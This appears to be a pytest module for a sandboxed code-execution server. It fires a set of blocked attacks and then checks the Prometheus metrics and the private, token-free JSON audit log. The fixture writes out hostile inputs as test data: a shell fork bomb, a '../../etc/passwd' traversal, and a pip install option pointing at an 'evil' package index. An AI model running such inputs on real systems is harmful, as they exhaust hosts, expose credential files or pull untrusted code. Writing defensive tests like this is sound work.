"""Observability after attacks: one dedicated server (tokens, an audit directory from a --config file) takes a
small round of attacks and ordinary work; then /metrics must count them and pass `promtool check metrics`, and the
audit log must hold one JSON line per event, with the right types, mode 0600, and never a token."""
import glob
import json
import os
import shutil
import stat
import subprocess
import time

import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from attacks_util import record, server_env
from cbclient import Client

TOK_A = "obsA-" + os.urandom(12).hex()
TOK_CFG = "obsCfg-" + os.urandom(12).hex()
EVENTS = {"CodeExecution", "FileRead", "FileWrite", "FileDelete", "DirectoryCreate", "ShellCommand", "PackageInstall",
          "SessionCreate", "SessionDestroy", "SecurityViolation", "RateLimitExceeded", "InputValidationFailure"}


@pytest.fixture(scope="module")
def obs(tmp_path_factory):
    from conftest import Server
    d = tmp_path_factory.mktemp("obs")
    audit = d / "audit"
    cfg = d / "config.json"
    cfg.write_text(json.dumps({"security": {"auditLogDirectory": str(audit),
                                            "tokens": [{"principal": "carol", "token": TOK_CFG}]}}))
    s = Server("--config", str(cfg), env=server_env(CODEBEAKER_TOKENS=f"alice:{TOK_A}"))
    s.audit_dir = str(audit)
    c = Client(s.url, headers={"Authorization": f"Bearer {TOK_A}"})
    sid = c.session_when_ready("python")
    s.attack_log = attack(s, c, sid)
    yield s
    c.close()
    s.stop()


def attack(s, c, sid):
    """The round: refusals of each kind, a rate limit, a bad token, ordinary work, one of each outcome."""
    got = {}
    ex = lambda cmd: c.request("session.execute", {"sessionId": sid, "command": cmd})  # noqa: E731
    got["forkBomb"] = ex({"type": "execute_shell", "commandName": "sh", "args": ["-c", ":(){ :|:& };:"]})
    got["traversal"] = ex({"type": "read_file", "path": "../../etc/passwd"})
    got["codeLength"] = ex({"type": "execute_code", "code": "#" * 100_001})
    got["package"] = ex({"type": "install_packages", "packages": ["--index-url=http://evil/x"]})
    got["token-in-code"] = ex({"type": "execute_code", "code": f"print('{TOK_A}'[:4])  # {TOK_A} {TOK_CFG}"})
    ex({"type": "write_file", "path": "a.txt", "content": "x"})
    ex({"type": "read_file", "path": "a.txt"})
    ex({"type": "create_directory", "path": "dir"})
    ex({"type": "delete_file", "path": "a.txt"})
    ex({"type": "execute_shell", "commandName": "true"})
    ex({"type": "install_packages", "packages": ["six"]})
    got["failure"] = ex({"type": "execute_code", "code": "raise SystemExit(3)"})
    got["timeout"] = ex({"type": "execute_code", "code": "while True: pass", "timeout": 1})
    got["success"] = ex({"type": "execute_code", "code": "print(1)"})
    # Rate limit: a session allowing 3 executions a minute refuses the 4th, saying when to retry.
    limited = c.session("python", security={"executionsPerMinute": 3})
    runs = [c.request("session.execute", {"sessionId": limited, "command": {"type": "execute_code", "code": "print(1)"}})
            for _ in range(4)]
    got["rate"] = runs
    for bad in [f"Bearer {TOK_A}x", "Bearer nope", f"Bearer {TOK_CFG[:-2]}"]:
        with pytest.raises(InvalidStatus):
            connect(s.url, additional_headers={"Authorization": bad}, open_timeout=10)
    c.request("session.close", {"sessionId": limited})
    c.sessions.remove(limited)
    return got


def metrics(s):
    status, body = s.http("/metrics")
    assert status == 200
    return body.decode()


def value(text, name, **labels):
    want = ",".join(f'{k}="{v}"' for k, v in sorted(labels.items()))
    for line in text.splitlines():
        if line.startswith("#") or not line.startswith(name):
            continue
        series, v = line.rsplit(" ", 1)
        if series == name and not labels:
            return float(v)
        if series.startswith(name + "{") and ",".join(sorted(series[len(name) + 1:-1].split(","))) == want:
            return float(v)
    return None


def test_refusals_and_rate_limit_answer_as_documented(obs):
    g = obs.attack_log
    assert g["forkBomb"]["error"]["code"] == -32011 and g["forkBomb"]["error"]["data"]["rule"] == "forkBomb"
    assert g["traversal"]["error"]["data"]["rule"] == "path.traversal"
    assert g["codeLength"]["error"]["data"]["rule"] == "codeLength"
    assert g["package"]["error"]["data"]["rule"] == "package.option"
    runs = g["rate"]
    assert all("result" in r for r in runs[:3]), runs  # the first 3 ran (not refused)
    e = runs[3]["error"]
    assert e["code"] == -32029 and e["data"]["rule"] == "executionsPerMinute" and 0 < e["data"]["retryAfterMs"] <= 60_000, e
    record("rate limit: 4th execution in a 3/min session", "(host)", f"refused: -32029, retryAfterMs {e['data']['retryAfterMs']}")


def test_metrics_count_the_attacks(obs):
    m = metrics(obs)
    for kind, n in [("forkBomb", 1), ("path.traversal", 1), ("codeLength", 1), ("package.option", 1), ("auth", 3)]:
        assert (value(m, "codebeaker_security_violations_total", kind=kind) or 0) >= n, (kind, m)
    assert value(m, "codebeaker_rate_limit_exceeded_total") >= 1
    # Each outcome as many times at least as the round saw it (a run hit by the known transient runner failure
    # counts elsewhere).
    g = obs.attack_log
    seen = {"success": 0, "failure": 0, "timeout": 0}
    for r in [g["failure"], g["timeout"], g["success"], g["token-in-code"]] + g["rate"][:3]:
        res = r.get("result") or {}
        run = res.get("result") or {}
        if res.get("success"):
            seen["success"] += 1
        elif run.get("timedOut"):
            seen["timeout"] += 1
        elif isinstance(run.get("exitCode"), int) and run["exitCode"] != 0:
            seen["failure"] += 1
    assert seen["success"] >= 1 and seen["failure"] + seen["timeout"] >= 1, (seen, g)
    for outcome, n in seen.items():
        got = value(m, "codebeaker_executions_total", language="python", runtime="Python", outcome=outcome) or 0
        assert got >= n, (outcome, got, n)
    assert value(m, "codebeaker_driver_up", driver="python") == 1
    assert value(m, "codebeaker_driver_restarts_total", driver="python") is not None
    assert value(m, "codebeaker_websocket_connections") >= 1
    assert value(m, "codebeaker_websocket_connections_total") >= 1  # the refused upgrades are not counted
    assert value(m, "codebeaker_rpc_requests_total", method="session.execute", outcome="-32011") >= 3
    assert value(m, "codebeaker_rpc_requests_total", method="session.execute", outcome="-32029") >= 1
    assert value(m, "codebeaker_rpc_requests_total", method="session.create", outcome="ok") >= 2
    assert value(m, "codebeaker_active_sessions") >= 1
    assert value(m, "codebeaker_execution_duration_seconds_count") >= 3
    assert TOK_A not in m and TOK_CFG not in m


def test_metrics_show_the_workspace_disk(obs):
    m = metrics(obs)
    st = os.statvfs(obs.workspace_root)
    free = value(m, "codebeaker_workspace_disk_free_bytes")
    assert abs(free - st.f_bavail * st.f_frsize) < 512 << 20, (free, st.f_bavail * st.f_frsize)
    c = Client(obs.url, headers={"Authorization": f"Bearer {TOK_A}"})
    quota_mb = c.call("initialize")["limits"]["workspaceQuotaMB"] or 0
    c.close()
    assert value(m, "codebeaker_workspace_quota_bytes") == quota_mb << 20


def test_metrics_pass_promtool(obs):
    promtool = shutil.which("promtool")
    if not promtool:
        pytest.skip("promtool not installed (apt-get install -y --no-install-recommends prometheus)")
    p = subprocess.run([promtool, "check", "metrics"], input=metrics(obs), capture_output=True, text=True, timeout=30)
    assert p.returncode == 0, p.stdout + p.stderr


def audit_lines(obs, want, timeout=10):
    """Polls until every (event, outcome) in `want` is in the log (the writer is a background thread)."""
    deadline = time.monotonic() + timeout
    while True:
        lines = []
        for f in sorted(glob.glob(os.path.join(obs.audit_dir, "audit-*.jsonl"))):
            lines += open(f, encoding="utf-8").read().splitlines()
        seen = {(json.loads(l)["event"], json.loads(l)["outcome"]) for l in lines}
        if want <= seen or time.monotonic() > deadline:
            return lines
        time.sleep(0.1)


def test_audit_log_has_one_json_line_per_event(obs):
    want = {("SessionCreate", "success"), ("SecurityViolation", "denied"), ("InputValidationFailure", "denied"),
            ("RateLimitExceeded", "denied"), ("CodeExecution", "success"), ("CodeExecution", "failure"),
            ("FileWrite", "success"), ("FileRead", "success"), ("FileDelete", "success"), ("DirectoryCreate", "success"),
            ("ShellCommand", "success"), ("SessionDestroy", "success")}
    lines = audit_lines(obs, want)
    records = [json.loads(l) for l in lines]
    for r in records:
        assert set(r) == {"time", "principal", "session", "event", "outcome", "details"}, r
        assert r["event"] in EVENTS and r["outcome"] in ("success", "failure", "denied"), r
        assert r["time"].endswith("Z")
    seen = {(r["event"], r["outcome"]) for r in records}
    assert want <= seen, want - seen
    assert any(r["event"] == "PackageInstall" or r["details"].get("attempted") == "PackageInstall" for r in records)
    rules = {r["details"].get("rule") for r in records if r["event"] in ("SecurityViolation", "InputValidationFailure")}
    assert {"forkBomb", "path.traversal", "codeLength", "package.option", "auth"} <= rules, rules
    assert {r["principal"] for r in records if r["session"]} == {"alice"}
    record("audit log", "(host)", f"{len(records)} lines, {len({r['event'] for r in records})} event types")


def test_audit_log_never_holds_a_token_and_is_private(obs):
    audit_lines(obs, {("SecurityViolation", "denied")})
    files = glob.glob(os.path.join(obs.audit_dir, "audit-*.jsonl"))
    assert files
    text = "".join(open(f, encoding="utf-8").read() for f in files)
    for secret in (TOK_A, TOK_CFG, TOK_A + "x", TOK_CFG[:-2], TOK_A[5:20], TOK_CFG[7:20]):
        assert secret not in text, f"audit log contains {secret[:8]}..."
    for f in files:
        assert stat.S_IMODE(os.stat(f).st_mode) == 0o600, oct(os.stat(f).st_mode)
    assert stat.S_IMODE(os.stat(obs.audit_dir).st_mode) == 0o700
